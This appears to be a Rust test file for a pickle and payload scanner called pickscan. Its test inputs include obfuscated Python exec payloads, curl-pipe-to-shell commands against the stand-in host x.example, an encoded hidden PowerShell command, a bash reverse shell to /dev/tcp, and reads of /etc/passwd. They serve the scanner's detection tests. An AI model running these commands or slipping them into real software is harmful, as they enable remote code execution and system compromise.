//! What code inside pickles says: code objects of every Python at hand, source and commands.

#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    reason = "a panic is how a test fails"
)]

mod support;

use pickscan::{
    facts::{PayloadKind, PayloadSummary},
    limits::Limits,
    machine::Machine,
    payload::summarize,
    rules::Ruleset,
    source::MemorySource,
};
use support::unhex;

fn assert_has(list: &[String], wanted: &[&str], context: &str) {
    for entry in wanted {
        assert!(
            list.iter().any(|have| have == entry),
            "{context}: {entry} is not in {list:?}"
        );
    }
}

fn fixtures() -> Vec<(String, Vec<u8>)> {
    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/payload");
    let files = std::fs::read_dir(folder)
        .unwrap()
        .map(|entry| entry.unwrap().path());
    let files = files.filter(|path| path.extension().is_some_and(|extension| extension == "hex"));
    files
        .map(|path| {
            let digits = std::fs::read_to_string(&path).unwrap().replace('\n', "");
            (path.display().to_string(), unhex(&digits))
        })
        .collect()
}

#[test]
fn code_objects_of_every_version_are_read() {
    let fixtures = fixtures();
    assert!(fixtures.len() >= 9);
    for (name, bytes) in fixtures {
        let summary = summarize(PayloadKind::CodeObject, &bytes);
        let names: &[&str] = &[
            "os.system",
            "socket.create_connection",
            "urllib.request.urlopen",
            "subprocess.Popen",
            "builtins.eval",
            "builtins.open",
        ];
        assert_has(&summary.names, names, &name);
        assert_has(
            &summary.imports,
            &["os", "urllib.request", "subprocess", "socket"],
            &name,
        );
        assert_has(&summary.contacts, &["http://x.example/payload"], &name);
        assert_has(&summary.paths, &["/etc/passwd"], &name);
        assert_has(&summary.constants, &["id", "text constant"], &name);
        assert_has(&summary.notes, &["defines inner from snippet.py"], &name);
        // With the header of a `.pyc`, of each length.
        for header in [8, 12, 16] {
            let mut pyc = vec![0x6f, 0x0d, 0x0d, 0x0a];
            pyc.resize(header, 0);
            pyc.extend_from_slice(&bytes);
            assert_eq!(
                summarize(PayloadKind::CodeObject, &pyc),
                summary,
                "{name} {header}"
            );
        }
    }
}

#[test]
fn broken_code_objects_end_in_a_note() {
    for (name, bytes) in fixtures() {
        for length in (0..bytes.len()).step_by(7) {
            let summary = summarize(PayloadKind::CodeObject, &bytes[..length]);
            assert_has(&summary.notes, &["the code object cannot be read"], &name);
        }
        for place in (0..bytes.len()).step_by(3) {
            let mut broken = bytes.clone();
            broken[place] ^= 0x55;
            summarize(PayloadKind::CodeObject, &broken);
        }
    }
}

fn source(text: &str) -> PayloadSummary {
    summarize(PayloadKind::Source, text.as_bytes())
}

#[test]
fn source_is_followed_to_the_names_it_uses() {
    let cases = [
        ("import os; os.system('id')", "os", "os.system"),
        (
            "import os.path as p\np.join('a')",
            "os.path",
            "os.path.join",
        ),
        (
            "from os import (system as s,\n popen)\ns('id')",
            "os",
            "os.system",
        ),
        ("__import__('o' + 's').system('id')", "os", "os.system"),
        ("x = __import__('os')\nx.system('id')", "os", "os.system"),
        ("import os\nrun = os.system\nrun('id')", "os", "os.system"),
        (
            "getattr(__import__('os'), 'sys' 'tem')('id')",
            "os",
            "os.system",
        ),
        (
            "import importlib\nimportlib.import_module('os').popen(1)",
            "os",
            "os.popen",
        ),
        ("import os\nprint(f'{os.popen(1)}')", "os", "os.popen"),
        ("__import__('\\x6f\\163').system('id')", "os", "os.system"),
        (
            "import os\ndef f(x=1):\n  # os.remove\n  return [os.getpid() for y in x]",
            "os",
            "os.getpid",
        ),
    ];
    for (text, import, call) in cases {
        let summary = source(text);
        assert_has(&summary.imports, &[import], text);
        assert_has(&summary.calls, &[call], text);
    }
    assert_has(
        &source("eval(compile('1', '', 'eval'))").calls,
        &["builtins.eval"],
        "eval",
    );
    let quiet = source("'''import os'''\n# os.system('id')\nx = 1 + foo['os'].bar");
    assert!(
        quiet.imports.is_empty() && quiet.calls.is_empty(),
        "{quiet:?}"
    );
}

/// What python3 writes for `base64.b64encode(zlib.compress(b"import os; os.system('id')"))`.
const PACKED: &str = "eJzLzC3ILypRyC+2BmK94sriktRcDfXMFHVNAINXCRo=";

#[test]
fn code_in_another_form_is_read() {
    for text in [
        "exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))",
        "exec(bytes.fromhex('696d706f7274206f733b206f732e73797374656d2827696427290a'))",
        &format!("import zlib, base64\nexec(zlib.decompress(base64.b64decode(b'{PACKED}')))"),
        "exec(''.join(map(chr, [105,109,112,111,114,116,32,111,115,59,32,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41])))",
        "exec(bytes((105,109,112,111,114,116,32,111,115,59,32,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41)))",
    ] {
        let summary = source(text);
        assert_has(&summary.calls, &["os.system", "builtins.exec"], text);
        assert_has(&summary.notes, &["decodes more code"], text);
    }
    let shell = |text: &str| summarize(PayloadKind::Shell, text.as_bytes());
    let piped = shell("echo Y3VybCBodHRwOi8veC5leGFtcGxlL2EgfCBzaA== | base64 -d | sh");
    assert_eq!(piped.calls, ["echo", "base64", "sh", "curl"]);
    assert_has(&piped.contacts, &["http://x.example/a"], "piped");
    let windows = shell(
        "powershell.exe -w hidden -Enc YwB1AHIAbAAgAGgAdAB0AHAAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUALwBhAA==",
    );
    assert_eq!(windows.calls, ["powershell", "curl"]);
    assert_has(&windows.contacts, &["http://x.example/a"], "windows");
    let plain = source(
        "x = ['international', 'deadbeefdeadbeef', 'AbsolutePositioning', (1, 2, 3, 4, 5, 6, 7, 8, 9)]",
    );
    assert!(plain.notes.is_empty(), "{plain:?}");
}

/// `import os; os.system('id')` as 3.14 compiles it: the numbers are those of its opcode table.
#[test]
fn code_objects_of_the_newest_version_are_read() {
    let bytecode = [
        128, 0, 94, 0, 82, 1, 73, 0, 116, 0, 93, 0, 80, 3, 0, 0, 82, 0, 52, 1, 0, 0, 31, 0, 82, 1,
        35, 0,
    ];
    let length = |data: &[u8]| u8::try_from(data.len()).unwrap();
    let short = |text: &[u8]| [&[b'z', length(text)], text].concat();
    let mut code = vec![0xe3];
    code.extend([0u8; 20]);
    code.extend([&[b's', length(&bytecode), 0, 0, 0][..], &bytecode].concat());
    code.extend([&[b')', 2][..], &short(b"id"), b"N"].concat());
    code.extend([&[b')', 2][..], &short(b"os"), &short(b"system")].concat());
    code.extend([b')', 0, b's', 0, 0, 0, 0]);
    code.extend([short(b"f.py"), short(b"<module>"), short(b"<module>")].concat());
    code.extend([0, 0, 0, 0, b's', 0, 0, 0, 0, b's', 0, 0, 0, 0]);
    let summary = summarize(PayloadKind::CodeObject, &code);
    assert_has(&summary.imports, &["os"], "3.14");
    assert_has(&summary.names, &["os.system"], "3.14");
    assert_eq!(summary.notes, ["defines <module> from f.py"]);
}

#[test]
fn commands_are_taken_apart() {
    let shell = |text: &str| summarize(PayloadKind::Shell, text.as_bytes());
    let fetched = shell("X=1 sudo curl -s http://x.example/a | bash -s");
    assert_eq!(fetched.calls, ["curl", "bash"]);
    assert_eq!(fetched.contacts, ["http://x.example/a"]);
    assert_eq!(fetched.notes, ["fetches a program and runs it"]);
    let reverse = shell("bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'");
    assert_has(
        &reverse.notes,
        &["opens a shell or sends data to an address"],
        "reverse",
    );
    let python = shell("python3 -c \"import os; os.system('id')\"");
    assert_eq!(python.calls, ["python3", "os.system"]);
    assert_eq!(
        shell("echo a || true; cat /etc/passwd").calls,
        ["echo", "true", "cat"]
    );
    assert_eq!(shell("echo $(id) `whoami`").calls, ["echo", "id", "whoami"]);
}

#[test]
fn hostile_payloads_are_bounded() {
    for piece in [
        "(", "[", "'", "\"\"\"", "a.", "a(", "import ", "x=", "f'{", "\\", "`", "$(", "|", "from ",
    ] {
        let text = piece.repeat(100_000);
        for kind in [
            PayloadKind::Source,
            PayloadKind::Shell,
            PayloadKind::CodeObject,
        ] {
            summarize(kind, text.as_bytes());
        }
    }
    let nested = [b"\xe3".to_vec(), vec![0; 20], b")\x01".repeat(100_000)].concat();
    summarize(PayloadKind::CodeObject, &nested);
}

#[test]
fn code_written_by_dill_and_cloudpickle_is_described() {
    let limits = Limits::default();
    for name in ["cloudpickle-lambda", "dill-lambda"] {
        let path = format!(
            "{}/corpus/benign/others/{name}.pkl",
            env!("CARGO_MANIFEST_DIR")
        );
        let source = MemorySource::new(std::fs::read(path).unwrap());
        let facts = Machine::new(&source, Ruleset::builtin(), &limits).run(0);
        let code = facts
            .payloads
            .iter()
            .filter(|payload| payload.kind == PayloadKind::CodeObject);
        assert!(code.count() > 0, "{name}: {facts:#?}");
        let judgement = Ruleset::builtin().evaluate(&facts);
        let ids: Vec<&str> = judgement
            .matches
            .iter()
            .map(|found| found.rule.id.as_ref())
            .collect();
        println!(
            "{name}: {ids:?} {:?}",
            judgement
                .matches
                .iter()
                .map(|m| &m.message)
                .collect::<Vec<_>>()
        );
        assert!(!ids.contains(&"harmful-code"), "{name}: {ids:?}");
    }
}

#[test]
fn code_that_does_harm_is_found_by_what_it_names() {
    let path = "corpus/malicious/payloads/code-object-os-system.pkl";
    let path = format!("{}/{path}", env!("CARGO_MANIFEST_DIR"));
    let source = MemorySource::new(std::fs::read(path).unwrap());
    let facts = Machine::new(&source, Ruleset::builtin(), &Limits::default()).run(0);
    let judgement = Ruleset::builtin().evaluate(&facts);
    let mut matches = judgement.matches.iter();
    let harmful = matches
        .find(|found| found.rule.id == "harmful-code")
        .unwrap();
    assert_eq!(
        harmful.message,
        "carries code that would do harm when it runs: code object \
         (it uses os.system and defines f from f.py)"
    );
}
